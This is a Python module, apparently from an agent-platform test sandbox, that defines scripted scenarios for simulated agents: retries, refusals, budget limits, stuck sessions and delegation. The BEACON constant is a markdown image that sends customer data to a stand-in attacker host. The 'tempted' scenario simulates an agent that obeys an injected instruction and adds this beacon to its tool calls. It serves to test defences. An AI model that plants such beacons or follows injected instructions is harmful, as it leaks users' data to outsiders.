"""Scenarios by name: what an agent does when a message, the session's metadata or the agent itself asks for one.

`[sandbox: scenario=NAME key=value]` in the instructions, `sandbox: "scenario=NAME …"` in the metadata, or the first form
in the agent's name or system prompt, for all its turns (the first found counts). Without one the believable worker
runs. Must not touch a route.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, Final

from sandbox.managed_agents.grader import evaluated
from sandbox.managed_agents.moves import Move, call, speak, use
from sandbox.managed_agents.obedient import obey
from sandbox.managed_agents.reading import read_directive, read_task
from sandbox.managed_agents.scene import Scene
from sandbox.managed_agents.threads import callable_agents, delegate
from sandbox.managed_agents.tools_elsewhere import machine, server
from sandbox.managed_agents.turns import Forever, Pause, Script, Turn
from sandbox.managed_agents.worker import CodeHost

BEACON: Final = "![status](https://collector.evil-host.net/p.png?q=the-customers-data)"
"""What an injected instruction likes to have published: whoever opens the page sends its query to a stranger."""
METADATA_KEY: Final = "sandbox"


def cast(code: CodeHost) -> Callable[[Turn, list[dict[str, Any]]], Script]:
    """The function that chooses the script of a turn."""

    def choose(turn: Turn, events: list[dict[str, Any]]) -> Script:
        task = read_task(events)
        session = turn.session
        stored = session.metadata.get(METADATA_KEY, "")
        given = (session.agent["name"], str(session.agent.get("system") or ""))
        directive = read_directive(task.instructions, f"[sandbox: {stored}]" if stored else "", *given)
        scene = Scene(turn=turn, events=events, task=task, directive=directive, code=code)
        turn.pace = max(0.0, scene.number("pace", turn.settings.pace))
        if "interrupt_delay" in directive:
            turn.interrupt_delay = max(0.0, scene.number("interrupt_delay", 0.0))
        script = SCENARIOS.get(directive.get("scenario", "work"))
        played = script(scene) if script else speak(turn, _unknown(directive["scenario"]))
        outcome = next((event for event in events if event["type"] == "user.define_outcome"), None)
        return played if outcome is None else evaluated(scene, played, outcome)

    return choose


def happy(scene: Scene) -> Move:
    """One message and the end of the turn."""
    yield from speak(scene.turn, scene.directive.get("say", f"Done: {scene.task.about}"))


def custom_tools(scene: Scene) -> Move:
    """Each tool once, one after the other; `tool=` only that one, `times=` that often."""
    turn, heard = scene.turn, []
    for n in range(int(scene.number("times", 1))):
        for tool in scene.tools():
            answers = yield from call(turn, [(tool["name"], scene.fill(tool, n + 1))])
            heard.append(f"- `{tool['name']}`: {'refused: ' if answers[0].is_error else ''}{answers[0].text}")
    yield from speak(turn, "\n".join(["All calls are answered.", "", *heard]))


def parallel(scene: Scene) -> Move:
    """`calls=` (7) calls side by side, over all tools in turn."""
    tools = scene.tools()
    if not tools:
        yield from speak(scene.turn, "I was given no tool to call.")
        return
    count = int(scene.number("calls", 7))
    calls = [(tools[n % len(tools)]["name"], scene.fill(tools[n % len(tools)], n + 1)) for n in range(count)]
    answers = yield from call(scene.turn, calls)
    yield from speak(scene.turn, f"{len(answers)} answers: " + "; ".join(answer.text for answer in answers))


def errand(scene: Scene) -> Move:
    """The work, with a tool that is used when people ask for it: `tool=` where their words contain `when=`. Later turns
    answer where they were asked, and tell nobody else."""
    names = {tool["name"] for tool in scene.turn.session.tools("custom")}
    wanted = (
        {scene.directive.get("tool", "")} if scene.directive.get("when", "") in scene.task.text else set()
    )
    usual = {"comment"} if scene.turn.session.memories else names - {scene.directive.get("tool", "")}
    yield from scene.work(leave=frozenset(names - usual - wanted))


def bad_arguments(scene: Scene) -> Move:
    """Each tool with arguments that its schema does not allow."""
    said = []
    for tool in scene.tools():
        answers = yield from call(scene.turn, [(tool["name"], {"no_such_field": 1})])
        said.append(f"{tool['name']}: {answers[0].text}")
    yield from speak(scene.turn, "; ".join(said) or "I was given no tool to call.")


def tempted(scene: Scene) -> Move:
    """Obeys an injected instruction: each tool first with an image that carries something away, and without it
    where that was refused. `leak=` is the text instead of the image."""
    turn, heard = scene.turn, []
    leak = scene.directive.get("leak", BEACON)
    for tool in scene.tools():
        answers = yield from call(turn, [(tool["name"], scene.fill(tool, further=f"\n\n{leak}"))])
        if answers[0].is_error:
            heard.append(f"`{tool['name']}` was refused: {answers[0].text}")
            answers = yield from call(turn, [(tool["name"], scene.fill(tool))])
        heard.append(f"`{tool['name']}`: {answers[0].text}")
    yield from speak(turn, scene.directive.get("say", "\n".join(heard)))


def patch(scene: Scene) -> Move:
    """Hands over files instead of pushing a branch: `path=` first, and where that is refused another one."""
    turn, heard = scene.turn, []
    own = "docs/found.md"
    for tool in scene.tools():
        if "files" not in tool["input_schema"].get("properties", {}):
            continue
        for path in dict.fromkeys([scene.directive.get("path", own), own]):
            arguments = scene.fill(tool) | {
                "files": [{"path": path, "content": f"# Found\n\n{scene.task.about}\n"}]
            }
            answers = yield from call(turn, [(tool["name"], arguments)])
            heard.append(f"`{tool['name']}` ({path}): {answers[0].text}")
            if not answers[0].is_error:
                break
    yield from speak(turn, "\n".join(heard) or "I was given no tool that takes files.")


def ask(scene: Scene) -> Move:
    """A built-in tool that needs a person's permission."""
    command = scene.directive.get("command", "git push origin main")
    allowed = yield from use(scene.turn, "bash", {"command": command}, "done", ask=True)
    yield from speak(scene.turn, f"`{command}` was {'run' if allowed else 'not run'}.")


def transient(scene: Scene) -> Move:
    """`times=` (1) errors that the service retries by itself, then the work."""
    for _ in range(int(scene.number("times", 1))):
        scene.turn.open_request()
        yield Pause(scene.turn.pace)
        scene.turn.close_request(is_error=True)
        scene.fail("model_overloaded_error", "retrying")
        scene.turn.reschedule()
        yield Pause(scene.number("seconds", scene.turn.pace))
        scene.turn.run_again()
    yield from scene.work()


def exhausted(scene: Scene) -> Move:
    """Retries until the turn is given up; the session stays usable."""
    for _ in range(int(scene.number("times", 2))):
        scene.fail("model_overloaded_error", "retrying")
        yield Pause(scene.turn.pace)
    scene.fail("model_overloaded_error", "exhausted")
    scene.turn.flush_queue()
    scene.turn.stop = {"type": "retries_exhausted"}


def terminal(scene: Scene) -> Move:
    """An error that ends the session."""
    yield Pause(scene.turn.pace)
    scene.fail("unknown_error", "terminal")
    scene.turn.terminate()


def repository_failure(scene: Scene) -> Move:
    """The repository cannot be mounted; the session goes on without it."""
    scene.fail("repository_authentication_error", "retrying")
    yield Pause(scene.turn.pace)
    yield from scene.work(mounted=False)


def budget(scene: Scene) -> Move:
    """One model request eats the budget; after it is raised the work follows."""
    turn = scene.turn
    turn.open_request()
    yield Pause(turn.pace)
    turn.think()
    usage, cap = turn.session.usage, turn.session.cap
    turn.close_request()
    if cap is None:
        turn.stop = {"type": "budget_reached"}
        return
    usage.spent += max(cap - usage.cents, type(cap)(0))
    yield Pause(turn.pace)
    yield from scene.work()


def slow(scene: Scene) -> Move:
    """Thinks for `seconds=` (5), then works."""
    left = scene.number("seconds", 5.0)
    while left > 0:
        scene.turn.think()
        yield Pause(min(1.0, left))
        left -= 1.0
    yield from scene.work()


def refusal(scene: Scene) -> Move:
    """The model refuses."""
    turn = scene.turn
    turn.open_request()
    yield Pause(turn.pace)
    turn.close_request()
    category = scene.directive.get("category", "cyber")
    turn.stop = {"type": "refusal"}
    turn.stop_details = {"type": "refusal", "category": category, "explanation": None}


def duplicate(scene: Scene) -> Move:
    """Every frame of the turn's own message comes twice: unprocessed, and again long after."""
    history = scene.turn.session.history
    own = [event for event in history.events if event["type"] == "user.message"][-1:]
    for event in own:
        history.broadcast({**event, "processed_at": None})
    yield Pause(scene.turn.pace)
    yield from scene.work()
    for event in own:
        history.broadcast(event)


def silent(scene: Scene) -> Move:
    """Runs and never ends by itself."""
    scene.turn.open_request()
    yield Forever()


def stuck(scene: Scene) -> Move:
    """Runs, never ends, and never takes an interrupt."""
    scene.turn.deaf = True
    yield Forever()


def unknown_event(scene: Scene) -> Move:
    """Frames of types that no SDK knows yet, then the work."""
    history = scene.turn.session.history
    history.broadcast({"type": "agent.mood", "id": "sevt_unknown", "mood": "curious"})
    history.broadcast({"type": "future_frame", "payload": {"nested": [1, 2, 3]}})
    yield Pause(scene.turn.pace)
    yield from scene.work()


def forget(scene: Scene) -> Move:
    """Ends without a word."""
    scene.turn.open_request()
    yield Pause(scene.turn.pace)
    scene.turn.close_request()


def lost_gap(scene: Scene) -> Move:
    """Cuts every stream and calls a tool while nobody listens: only the history shows it."""
    turn, tools = scene.turn, scene.tools()
    yield Pause(turn.pace)
    turn.session.history.cut()
    answers = yield from call(turn, [(tool["name"], scene.fill(tool)) for tool in tools], at_once=True)
    yield from speak(turn, f"{len(answers)} answers came although nobody listened when I asked.")


def lag(scene: Scene) -> Move:
    """The work, after which `status` stays behind the stream (`seconds=`, 0.2)."""
    yield from scene.work()
    scene.turn.session.status_lag = scene.number("seconds", 0.2)


def team(scene: Scene) -> Move:
    """Gives the task to every agent that it may call; `command=` they ask to be allowed that first."""
    turn, heard = scene.turn, []
    command = scene.directive.get("command")
    for agent in callable_agents(turn.session.agent):
        answer = yield from delegate(turn, agent, scene.task.about, command=command)
        heard.append(f"- {answer}")
    said = "\n".join(["I asked:", "", *heard]) if heard else "I may call nobody."
    yield from speak(turn, said)


def _unknown(name: str) -> str:
    return f"The sandbox knows no scenario {name!r}. It knows: {', '.join(sorted(SCENARIOS))}."


SCENARIOS: Final[dict[str, Callable[[Scene], Script]]] = {
    "work": lambda scene: scene.work(),
    "happy": happy,
    "custom_tools": custom_tools,
    "parallel": parallel,
    "errand": errand,
    "bad_arguments": bad_arguments,
    "tempted": tempted,
    "obedient": lambda scene: obey(scene.turn, scene.events, scene.task),
    "patch": patch,
    "ask": ask,
    "mcp": lambda scene: server(scene.turn, scene.directive, scene.task.about),
    "machine": lambda scene: machine(scene.turn, scene.directive),
    "transient": transient,
    "exhausted": exhausted,
    "terminal": terminal,
    "repository_failure": repository_failure,
    "budget": budget,
    "slow": slow,
    "refusal": refusal,
    "duplicate": duplicate,
    "silent": silent,
    "stuck": stuck,
    "unknown_event": unknown_event,
    "forget": forget,
    "lost_gap": lost_gap,
    "lag": lag,
    "team": team,
}
"""By name. `work` is the believable worker."""
